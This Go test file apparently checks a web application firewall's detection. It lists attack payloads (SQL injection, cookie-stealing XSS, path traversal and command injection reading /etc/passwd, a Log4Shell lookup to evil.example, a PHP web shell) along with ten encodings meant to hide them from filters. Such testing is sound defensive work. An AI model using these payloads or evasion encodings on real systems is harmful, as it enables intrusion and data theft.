package crs_test

import (
	"fmt"
	"net/url"
	"strings"
)

// evasionPayloads are classic attacks that evasion encodings try to hide.
var evasionPayloads = []string{
	"' OR 1=1--",
	"1 UNION SELECT username, password FROM users",
	"<script>alert(document.cookie)</script>",
	"<img src=x onerror=alert(1)>",
	"../../../../etc/passwd",
	"; cat /etc/passwd",
	"${jndi:ldap://evil.example/a}",
	"<?php system($_GET['c']); ?>",
}

type encoding struct {
	name string
	fn   func(string) string
}

func percentAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

// encodings rewrite a payload the way evasion attempts do; the engine's transformations must
// still see the attack.
var encodings = []encoding{
	{"plain", url.QueryEscape},
	{"percent-every-byte", percentAll},
	{"double-percent", func(s string) string { return url.QueryEscape(url.QueryEscape(s)) }},
	{"iis-%u", func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			fmt.Fprintf(&b, "%%u00%02x", s[i])
		}
		return b.String()
	}},
	{"fullwidth-%u", func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			c := s[i]
			if c > 0x20 && c < 0x7f {
				fmt.Fprintf(&b, "%%u%04x", 0xff00+int(c)-0x20)
			} else {
				fmt.Fprintf(&b, "%%%02X", c)
			}
		}
		return b.String()
	}},
	{"mixed-case", func(s string) string {
		b := []byte(s)
		for i := range b {
			if i%2 == 0 && b[i] >= 'a' && b[i] <= 'z' {
				b[i] -= 32
			}
		}
		return url.QueryEscape(string(b))
	}},
	{"html-entities", func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			fmt.Fprintf(&b, "&#x%x;", s[i])
		}
		return url.QueryEscape(b.String())
	}},
	{"nul-bytes", func(s string) string { return url.QueryEscape(strings.Join(strings.Split(s, ""), "\x00")) }},
	{"sql-comments", func(s string) string { return url.QueryEscape(strings.ReplaceAll(s, " ", "/**/")) }},
	{"tabs-newlines", func(s string) string { return url.QueryEscape(strings.ReplaceAll(s, " ", "\t\n")) }},
}
